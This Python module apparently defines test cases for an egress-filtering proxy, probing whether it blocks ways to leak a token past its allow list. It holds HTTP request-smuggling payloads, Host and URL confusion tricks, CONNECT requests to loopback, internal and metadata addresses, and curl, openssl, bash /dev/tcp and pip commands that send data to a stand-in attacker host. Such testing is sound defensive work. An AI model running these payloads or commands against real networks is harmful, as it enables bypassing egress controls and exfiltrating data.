"""The proxy itself: what CONNECT and plain requests may name, how requests are told apart, and where answers lead."""

from __future__ import annotations

from .table import Case, case

PROXY = "{gw}:3128"
PLAIN, SECURE = "{gw}:3129", "{gw}:3130"
STRANGER = "tenant.attacker.example"
END = "Connection: close\r\n\r\n"
INTERCEPT = "{cdn}:80"


def _get(url: str, host: str, more: str = "", method: str = "GET") -> str:
    return f"{method} {url} HTTP/1.1\r\nHost: {host}\r\n{more}{END}"


# Ports of a listed name that are not listed, in odd spellings as well.
PORTS = ("22", "25", "53", "80", "110", "853", "993", "2375", "2376", "3128", "3333", "5000", "6667", "8080", "8443", "9001", "65535")
PORT_SPELLINGS = {"zeros": "00022", "beyond the last": str(65536 + 22), "a plus": "+22", "a blank": " 22", "hex": "0x16", "two ports": "443:22"}

# {bad} is a request for a stranger's site at the address of the listed one, which is leaked when it is read as a request of its own.
BAD = "GET /{token} HTTP/1.1\r\nHost: tenant.attacker.example\r\n\r\n"
CHUNKED = f"{len(BAD) - len('{token}') + 15:x}\r\n{BAD}\r\n0\r\n\r\n"
SIZE = len(BAD) - len("{token}") + 15
POST = "POST /{form} HTTP/1.1\r\nHost: cdn.example\r\n"
SMUGGLED = {
    "CL.TE": (POST.format(form="te") + f"Content-Length: {SIZE + 5}\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n" + BAD),
    "CL.TE, a blank before the colon": (POST.format(form="te") + f"Content-Length: {SIZE + 5}\r\nTransfer-Encoding : chunked\r\n\r\n0\r\n\r\n" + BAD),
    "CL.TE, a tab": (POST.format(form="te") + f"Content-Length: {SIZE + 5}\r\nTransfer-Encoding:\tchunked\r\n\r\n0\r\n\r\n" + BAD),
    "CL.TE, xchunked": (POST.format(form="te") + f"Content-Length: {SIZE + 5}\r\nTransfer-Encoding: xchunked\r\n\r\n0\r\n\r\n" + BAD),
    "CL.TE, identity and chunked": (POST.format(form="te") + f"Content-Length: {SIZE + 5}\r\nTransfer-Encoding: identity, chunked\r\n\r\n0\r\n\r\n" + BAD),
    "CL.TE, two headers": (POST.format(form="te") + f"Content-Length: {SIZE + 5}\r\nTransfer-Encoding: identity\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n" + BAD),
    "CL.TE, folded": (POST.format(form="te") + f"Content-Length: {SIZE + 5}\r\nTransfer-Encoding:\r\n chunked\r\n\r\n0\r\n\r\n" + BAD),
    "CL.TE, in a folded header": (POST.format(form="te") + f"Content-Length: {SIZE + 5}\r\nX: y\r\n Transfer-Encoding: chunked\r\n\r\n0\r\n\r\n" + BAD),
    "CL.TE, a bare line feed": (POST.format(form="te") + f"Content-Length: {SIZE + 5}\r\nX: y\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n" + BAD),
    "CL.TE, quotes": (POST.format(form="te") + f'Content-Length: {SIZE + 5}\r\nTransfer-Encoding: "chunked"\r\n\r\n0\r\n\r\n' + BAD),
    "TE.CL": (POST.format(form="cl-first") + "Content-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n" + CHUNKED),
    "TE.CL, upper case": (POST.format(form="cl-first") + "Content-Length: 4\r\nTRANSFER-ENCODING: CHUNKED\r\n\r\n" + CHUNKED),
    "two lengths, the first short": (POST.format(form="cl") + f"Content-Length: 0\r\nContent-Length: {SIZE}\r\n\r\n" + BAD),
    "two lengths in one header": (POST.format(form="cl") + f"Content-Length: 0, {SIZE}\r\n\r\n" + BAD),
    "a length with a sign": (POST.format(form="cl") + f"Content-Length: +{SIZE}\r\n\r\n" + BAD),
    "a length with letters": (POST.format(form="cl") + f"Content-Length: 0x{SIZE:x}\r\n\r\n" + BAD),
    "a length below zero": (POST.format(form="cl") + "Content-Length: -1\r\n\r\n" + BAD),
    "pipelined": ("GET / HTTP/1.1\r\nHost: cdn.example\r\n\r\n" + BAD),
    "pipelined in a second segment": ("GET / HTTP/1.1\r\nHost: cdn.example\r\n\r\n|" + BAD),
    "pipelined after HEAD": ("HEAD / HTTP/1.1\r\nHost: cdn.example\r\n\r\n" + BAD),
    "pipelined after an upgrade": ("GET / HTTP/1.1\r\nHost: cdn.example\r\nUpgrade: x\r\nConnection: upgrade\r\n\r\n" + BAD),
    "a line feed alone ends the head": ("GET / HTTP/1.1\nHost: cdn.example\n\n" + BAD),
    "a request within a header": ("GET / HTTP/1.1\r\nHost: cdn.example\r\nX: y\r\n\r\n\r\n" + BAD),
    "a carriage return alone": ("GET / HTTP/1.1\r\nHost: cdn.example\r\nX: \r\r\n\r\n" + BAD),
    "expecting to go on": (f"POST /cl HTTP/1.1\r\nHost: cdn.example\r\nExpect: 100-continue\r\nContent-Length: 0\r\n\r\n{BAD}"),
}

# One request in which two readers may see two hosts. All go to the address that both sites share.
HOSTS = {
    "a stranger": "Host: tenant.attacker.example",
    "two headers, the second bad": "Host: cdn.example\r\nHost: tenant.attacker.example",
    "two headers, the first bad": "Host: tenant.attacker.example\r\nHost: cdn.example",
    "in a folded line": "Host: cdn.example\r\n Host: tenant.attacker.example\r\nHost: tenant.attacker.example",
    "a blank before the colon": "Host : tenant.attacker.example\r\nHost: cdn.example",
    "a user part": "Host: cdn.example@tenant.attacker.example",
    "a port": "Host: tenant.attacker.example:80",
    "a trailing dot": "Host: tenant.attacker.example.",
    "upper case": "HOST: TENANT.ATTACKER.EXAMPLE",
    "a tab": "Host:\ttenant.attacker.example",
    "a comma": "Host: tenant.attacker.example, cdn.example",
    "an address": "Host: 198.51.100.66",
    "a denied name": "Host: secret.wild.example",
    "an empty one": "Host:",
    "none": "X: y",
    "a null byte": "Host: tenant.attacker.example\0.cdn.example",
}
URLS = {
    "a stranger": "http://tenant.attacker.example/{token}",
    "the attacker": "http://attacker.example/{token}",
    "a denied name": "http://secret.wild.example/{token}",
    "a listed name as the user": "http://cdn.example@attacker.example/{token}",
    "a listed name and port as the user": "http://cdn.example:80@attacker.example/{token}",
    "a listed name as the path": "http://attacker.example/cdn.example/{token}",
    "a listed name as the query": "http://attacker.example/?{token}&http://cdn.example/",
    "upper case": "HTTP://ATTACKER.EXAMPLE/{token}",
    "a port": "http://attacker.example:8080/{token}",
    "a port that is not listed of a listed name": "http://cdn.example:8080/{token}",
    "port 443 without TLS": "http://cdn.example:443/{token}",
    "a trailing dot": "http://attacker.example./{token}",
    "three slashes": "http:///attacker.example/{token}",
    "https": "https://attacker.example/{token}",
    "ftp": "ftp://attacker.example/{token}",
    "gopher": "gopher://attacker.example:70/{token}",
    "ws": "ws://attacker.example/{token}",
    "whois": "whois://attacker.example/{token}",
    "a registry": "http://registry.example/v2/{token}/blobs/uploads/",
    "metadata": "http://{metadata}/latest/meta-data/{token}",
    "metadata by name": "http://metadata.example/{token}",
    "an internal server": "http://{internal}/{token}",
    "an internal name": "http://internal.example/{token}",
}
METHODS = ("HEAD", "POST", "PUT", "DELETE", "OPTIONS", "TRACE", "PATCH", "PROPFIND", "PURGE", "X-{token}")
URL_PROXY_ONLY = {"https", "ftp", "gopher", "whois"}
OLD = "a proxy without a check does not speak this scheme; it goes as plain HTTP there"


def cases() -> list[Case]:
    return [*_connect(), *_plain(), *_look_ups(), *_smuggling(), *_redirects(), *_sockets(), *_programs()]


def _connect() -> list[Case]:
    literal, odd, double = "IP-literal CONNECT", "CONNECT to odd ports", "double CONNECT"
    found = []
    for place in ("attacker", "cdn", "internal", "metadata", "nameserver", "control", "peer"):
        port = "443" if place not in ("control", "peer") else "8700"
        found.append(case(literal, f"{place}, SNI listed", "stream", dial=PROXY, connect=f"{{{place}}}:{port}", tls="cdn.example" if port == "443" else None,
                          http="{token}.attacker.example"))  # fmt: skip
    found += [
        case(literal, "the address of a listed name, a stranger's SNI", "stream", dial=PROXY, connect="{cdn}:443", tls=STRANGER, http=STRANGER),
        case(literal, "the address of a listed name, no SNI", "stream", dial=PROXY, connect="{cdn}:443", no_sni=True, http=STRANGER),
        case(literal, "another port of the listed address", "stream", dial=PROXY, connect="{listed}:22", send="{token}\n"),
        case(literal, "IPv6", "stream", dial=PROXY, connect="[{attacker6}]:443", tls="cdn.example", http="{token}.attacker.example"),
        case(literal, "IPv6, private", "stream", dial=PROXY, connect="[{internal6}]:443", tls="cdn.example", http="{token}.attacker.example"),
        case(literal, "the node's loopback", "stream", dial=PROXY, connect="127.0.0.1:8999", send="{token}\n"),
        case(literal, "the node's loopback, short", "stream", dial=PROXY, connect="127.1:8999", send="{token}\n"),
        case(literal, "zero", "stream", dial=PROXY, connect="0.0.0.0:8999", send="{token}\n"),
        case(literal, "localhost", "stream", dial=PROXY, connect="localhost:8999", send="{token}\n",
             unshown="the proxy without a check has only the fake internet's names"),
        case(literal, "another session on this node", "stream", dial=PROXY, connect="{same}:8888", send="{token}\n"),
        case(literal, "a session of another class", "stream", dial=PROXY, connect="{other}:8888", send="{token}\n"),
    ]  # fmt: skip
    for port in PORTS:
        found.append(case(odd, f"{port} of a listed name", "stream", dial=PROXY, connect=f"allowed.example:{port}", send="{token}\n"))
    for name, text in PORT_SPELLINGS.items():
        found.append(case(odd, f"22 spelt with {name}", "stream", dial=PROXY, connect=f"allowed.example:{text}", send="{token}\n"))
    found += [
        case(odd, "TLS on port 80 of a listed name", "stream", dial=PROXY, connect="allowed.example:80", tls="allowed.example", http=STRANGER),
        case(odd, "the attacker by name", "stream", dial=PROXY, connect="attacker.example:443", tls="attacker.example", http="attacker.example"),
        case(odd, "SSH of the attacker", "stream", dial=PROXY, connect="attacker.example:22", send="SSH-2.0-{token}\r\n"),
        case(odd, "the hub's API by the proxy", "stream", dial=PROXY, connect="{control}:8081", send="{token}\n", sign='text:"place": "hub"'),
    ]
    inner = "CONNECT {target} HTTP/1.1\r\nHost: x\r\n\r\n"
    for name, first, target in (
        ("the proxy by its address", "{gw}:3128", "attacker.example:443"),
        ("the proxy by loopback", "127.0.0.1:3128", "attacker.example:443"),
        ("the proxy by the node's address", "{node}:3128", "attacker.example:443"),
        ("the proxy of another class", "{gw_open}:3128", "attacker.example:443"),
        ("the proxy of another node", "{peer}:3128", "attacker.example:443"),
    ):  # fmt: skip
        quiet = "without the control a proxy listens only on the gateways' addresses" if name.split()[-1] in ("loopback", "address") and first != "{gw}:3128" else ""
        found.append(case(double, name, "stream", dial=PROXY, connect=first, send=inner.replace("{target}", target), second="{token}\n", unshown=quiet))
    found += [
        case(double, "two on one connection", "smuggle", dial=PROXY,
             text="CONNECT cdn.example:443 HTTP/1.1\r\n\r\n|CONNECT attacker.example:443 HTTP/1.1\r\nX: {token}\r\n\r\n"),
        case(double, "the other class's proxy, straight", "stream", dial="{gw_open}:3128", connect="attacker.example:443", tls="attacker.example", http="x"),
        case(double, "the other class's resolver, straight", "dns", name="{token}.attacker.example", kind="A", server="{gw_open}"),
        case(double, "CONNECT to the interception's plain port", "stream", dial=PLAIN, send="GET http://attacker.example/{token} HTTP/1.1\r\nHost: attacker.example\r\n\r\n"),
        case(double, "a Host header to the interception's plain port", "stream", dial=PLAIN, http="attacker.example"),
        case(double, "a listed Host to the interception's plain port, for a stranger", "stream", dial=PLAIN,
             send="GET http://tenant.attacker.example/{token} HTTP/1.1\r\nHost: cdn.example\r\n\r\n"),
        case(double, "TLS to the interception's port, a stranger's SNI", "stream", dial=SECURE, tls=STRANGER, http=STRANGER),
        case(double, "TLS to the interception's port, the attacker's SNI", "stream", dial=SECURE, tls="{token}.attacker.example", http="x"),
        case(double, "TLS to the proxy's port", "stream", dial=PROXY, tls=STRANGER, http=STRANGER,
             unshown="a proxy of plain HTTP cannot read it"),
    ]  # fmt: skip
    return found


def _plain() -> list[Case]:
    found = []
    for name, url in URLS.items():
        found.append(case("absolute-form requests", f"{name}, by the proxy", "stream", dial=PROXY, send=_get(url, "cdn.example")))
    for name in ("a stranger", "the attacker", "a denied name", "a port", "an internal server"):
        found.append(case("absolute-form requests", f"{name}, at a listed name's address", "stream", dial=INTERCEPT, send=_get(URLS[name], "cdn.example")))
    found += [
        case("absolute-form requests", "a listed URL at the attacker's address", "stream", dial="{attacker}:80", send=_get("http://cdn.example/{token}", "cdn.example")),
        case("absolute-form requests", "a listed URL with a stranger's Host at the shared address", "stream", dial=INTERCEPT,
             send=_get("http://cdn.example/{token}", STRANGER)),
    ]  # fmt: skip
    found += [
        case("methods", f"{method} by the proxy", "stream", dial=PROXY,
             send=_get("http://attacker.example/{token}", "attacker.example", "Content-Length: 15\r\n" if method in ("POST", "PUT", "PATCH") else "", method)
             + ("{token}" if method in ("POST", "PUT", "PATCH") else ""))
        for method in METHODS
    ]  # fmt: skip
    found += [
        case("methods", "HTTP/0.9", "stream", dial=PROXY, send="GET http://attacker.example/{token}\r\n\r\n"),
        case("methods", "HTTP/1.0", "stream", dial=PROXY, send="GET http://attacker.example/{token} HTTP/1.0\r\n\r\n"),
        case("methods", "the proxy's own pages", "stream", dial=PROXY, send=_get("http://{gw}:3128/squid-internal-mgr/info", "{gw}:3128"), sign="text:Squid Object Cache",
             unshown="only the control's own proxy has such pages"),
        case("methods", "the proxy's own pages, the old way", "stream", dial=PROXY, send=_get("cache_object://localhost/info", "localhost"),
             sign="text:Squid Object Cache", unshown="only the control's own proxy has such pages"),
    ]  # fmt: skip
    for name, header in HOSTS.items():
        found.append(case("Host of plain HTTP", f"{name}, at a listed name's address", "stream", dial=INTERCEPT,
                          send=f"GET /{{token}} HTTP/1.1\r\n{header}\r\n{END}"))  # fmt: skip
    for name in ("two headers, the second bad", "two headers, the first bad", "a blank before the colon", "in a folded line"):
        found.append(case("Host of plain HTTP", f"{name}, by the proxy with a listed URL", "stream", dial=PROXY,
                          send=f"GET http://cdn.example/{{token}} HTTP/1.1\r\n{HOSTS[name]}\r\n{END}"))  # fmt: skip
    return found


def _look_ups() -> list[Case]:
    """A proxy that looks a name up before it refuses it has carried the name outside."""
    family, name = "DNS tunnel by the proxy", "{token}.attacker.example"
    return [
        case(family, "the Host of intercepted HTTP", "stream", dial=INTERCEPT, send=f"GET / HTTP/1.1\r\nHost: {name}\r\n{END}"),
        case(family, "an absolute URL in intercepted HTTP", "stream", dial=INTERCEPT, send=f"GET http://{name}/ HTTP/1.1\r\nHost: {name}\r\n{END}"),
        case(family, "the URL asked of the proxy", "stream", dial=PROXY, send=f"GET http://{name}/ HTTP/1.1\r\nHost: {name}\r\n{END}"),
        case(family, "the host of a tunnel", "stream", dial=PROXY, connect=f"{name}:443", tls=name, http="x"),
        case(family, "the host of a tunnel to another port", "stream", dial=PROXY, connect=f"{name}:2222", http="x"),
        case(family, "the SNI of intercepted TLS", "stream", dial="{allowed}:443", tls=name, http="x"),
        case(family, "the Host inside of a refused tunnel", "stream", dial=PROXY, connect="attacker.example:443", tls=name, http=name),
    ]


def _smuggling() -> list[Case]:
    found = []
    for name, text in SMUGGLED.items():
        found.append(case("request smuggling", f"{name}, at a listed name's address", "smuggle", dial=INTERCEPT, text=text))
        proxied = text.replace(" /", " http://cdn.example/", 1)
        found.append(case("request smuggling", f"{name}, by the proxy", "smuggle", dial=PROXY, text=proxied))
    return found


def _redirects() -> list[Case]:
    family, found = "redirects", []
    targets = {
        "the attacker": "https://attacker.example/", "the attacker by address": "http://{attacker}/", "an internal server": "http://{internal}/",
        "metadata": "http://{metadata}/", "another port": "http://allowed.example:8080/", "a denied name": "https://secret.wild.example/",
    }  # fmt: skip
    for name, url in targets.items():
        for way in ("direct", "proxy"):
            found.append(case(family, f"302 to {name}, {way}", "redirect", url="https://allowed.example", code=302, target=url, way=way))
    for code in (301, 303, 307, 308):
        found.append(case(family, f"{code} to the attacker, proxy", "redirect", url="http://allowed.example", code=code, target="http://attacker.example/", way="proxy"))
    return found


def _sockets() -> list[Case]:
    family = "web sockets"
    ask = "GET /{token} HTTP/1.1\r\nHost: {host}\r\nUpgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n\r\n"
    return [
        case(family, "by CONNECT", "stream", dial=PROXY, connect="attacker.example:443", tls="attacker.example", send=ask.replace("{host}", "attacker.example")),
        case(family, "by CONNECT, SNI of a stranger", "stream", dial=PROXY, connect="cdn.example:443", tls=STRANGER, send=ask.replace("{host}", STRANGER)),
        case(family, "CONNECT to port 80", "stream", dial=PROXY, connect="attacker.example:80", send=ask.replace("{host}", "attacker.example")),
        case(family, "by an absolute URL", "stream", dial=PROXY, send=ask.replace("GET /", "GET http://attacker.example/").replace("{host}", "attacker.example")),
        case(family, "direct", "stream", dial="{attacker}:80", send=ask.replace("{host}", "attacker.example")),
        case(family, "direct with TLS", "stream", dial="{attacker}:443", tls="attacker.example", send=ask.replace("{host}", "attacker.example")),
        case(family, "a stranger at a listed name's address", "stream", dial="{cdn}:80", send=ask.replace("{host}", STRANGER)),
        case(family, "after an upgrade the connection is used for more", "stream", dial="{cdn}:80", send=ask.replace("{host}", STRANGER), second=BAD),
        case(family, "a listed socket as a tunnel for another request", "stream", dial=PROXY,
             send=ask.replace("GET /{token}", "GET http://cdn.example/x").replace("{host}", "cdn.example"),
             second="CONNECT attacker.example:443 HTTP/1.1\r\nX: {token}\r\n\r\n",
             unshown="the bytes of a web socket reach the listed server and nobody else"),
    ]  # fmt: skip


def _programs() -> list[Case]:
    """Programs as a user starts them, with no proxy variables or with some that lead past the control."""
    family = "unset proxy variables"
    curl = ["curl", "-sk", "--max-time", "4"]
    at = ["--resolve", "attacker.example:443:{attacker}", "--resolve", "attacker.example:80:{attacker}"]
    url = "https://attacker.example/{token}"
    python = "import ssl,urllib.request as u; print(u.build_opener(u.ProxyHandler({PROXIES}), u.HTTPSHandler(context=ssl._create_unverified_context())).open('URL', timeout=4).read())"
    proxied = {"https_proxy": "http://{gw}:3128", "http_proxy": "http://{gw}:3128"}
    return [
        case(family, "curl", "tool", argv=[*curl, url]),
        case(family, "curl with an address of its own", "tool", argv=[*curl, *at, url]),
        case(family, "curl with an address of its own, plain", "tool", argv=[*curl, *at, "http://attacker.example/{token}"]),
        case(family, "curl to an address", "tool", argv=[*curl, "https://{attacker}/{token}"]),
        case(family, "curl with NO_PROXY", "tool", argv=[*curl, *at, url], environment=proxied | {"no_proxy": "*"}),
        case(family, "curl with the proxy", "tool", argv=[*curl, url], environment=proxied),
        case(family, "curl with the proxy and a Proxy-Authorization", "tool", argv=[*curl, "-U", "root:{token}", url], environment=proxied),
        case(family, "curl with another proxy", "tool", argv=[*curl, "-x", "http://{attacker}:3128", "https://{token}.attacker.example/"]),
        case(family, "curl with a TLS proxy", "tool", argv=[*curl, "--proxy-insecure", "-x", "https://{attacker}:443", "-p", "https://{token}.attacker.example/"]),
        case(family, "curl with SOCKS 5", "tool", argv=[*curl, "-x", "socks5h://{attacker}:1080", "http://{token}.attacker.example/"],
             unshown="the fake internet does not speak SOCKS 5, so the name is not sent; the next case shows it with SOCKS 4"),
        case(family, "curl with SOCKS 4", "tool", argv=[*curl, "-x", "socks4a://{attacker}:1080", "http://{token}.attacker.example/"]),
        case(family, "curl with another connection", "tool", argv=[*curl, "--connect-to", "cdn.example:443:{attacker}:443", "https://cdn.example/{token}"]),
        case(family, "curl with a PROXY line", "tool", argv=[*curl, "--haproxy-protocol", *at, url + "?{token}"],
             unshown="the fake internet's servers do not take TLS after a PROXY line"),
        case(family, "curl with Host and SNI apart", "tool", argv=[*curl, "-H", "Host: attacker.example", "--resolve", "cdn.example:443:{attacker}", "https://cdn.example/{token}"]),
        case(family, "curl with HTTP/2 from the start", "tool", argv=[*curl, "--http1.1", "-X", "PRI", *at, "http://attacker.example/{token}"]),
        case(family, "curl to an FTP server", "tool", argv=["curl", "-s", "--max-time", "4", "ftp://{token}:x@{attacker}/"],
             unshown="the fake internet greets in the words of no FTP server, so the name is not sent"),
        case(family, "curl by telnet", "tool", argv=["sh", "-c", "echo {token} | curl -s --max-time 3 telnet://{attacker}:23"]),
        case(family, "Python's urllib", "tool", argv=["python3", "-c", python.replace("PROXIES", "").replace("URL", "https://{attacker}/{token}")]),
        case(family, "Python's urllib by name", "tool", argv=["python3", "-c", python.replace("PROXIES", "").replace("URL", url)]),
        case(family, "git over HTTPS", "tool", argv=["git", "-c", "http.sslVerify=false", "ls-remote", "https://attacker.example/{token}.git"]),
        case(family, "git over its own protocol", "tool", argv=["git", "ls-remote", "git://{attacker}/{token}.git"]),
        case(family, "pip from another index", "tool",
             argv=["sh", "-c", "python3 $(echo /usr/share/python-wheels/pip-*.whl)/pip download --no-deps --retries 0 --timeout 3 --trusted-host attacker.example "
                   "-d /tmp/x -i https://attacker.example/{token}/simple/ probe"]),
        case(family, "openssl", "tool", argv=["sh", "-c", "printf 'GET /{token} HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n' | timeout 4 openssl s_client -quiet -connect {attacker}:443 -servername attacker.example"]),
        case(family, "openssl by the proxy", "tool", argv=["sh", "-c", "printf 'GET /{token} HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n' | timeout 4 openssl s_client -quiet -proxy {gw}:3128 -connect cdn.example:443 -servername tenant.attacker.example"]),
        case(family, "openssl without a name", "tool", argv=["sh", "-c", "printf 'GET /{token} HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n' | timeout 4 openssl s_client -quiet -noservername -connect {cdn}:443"]),
        case(family, "bash's own sockets", "tool", argv=["bash", "-c", "exec 3<>/dev/tcp/{attacker}/443; echo {token} >&3; timeout 2 cat <&3"]),
        case(family, "bash's own datagrams", "tool", argv=["bash", "-c", "echo {token} > /dev/udp/{attacker}/9999"]),
        case("registry push", "start an upload, by the proxy", "tool", argv=[*curl, "-X", "POST", "https://registry.example/v2/{token}/blobs/uploads/"], environment=proxied),
        case("registry push", "send a layer, by the proxy", "tool", argv=[*curl, "-X", "PUT", "--data", "{token}", "https://registry.example/v2/x/blobs/uploads/1"], environment=proxied),
        case("registry push", "send a manifest, direct", "tool", argv=[*curl, "-X", "PUT", "--data", "{token}", "--resolve", "registry.example:443:{attacker}", "https://registry.example/v2/x/manifests/1"]),
        case("registry push", "an address and port 5000", "tool", argv=[*curl, "-X", "POST", "http://{attacker}:5000/v2/{token}/blobs/uploads/"]),
    ]  # fmt: skip
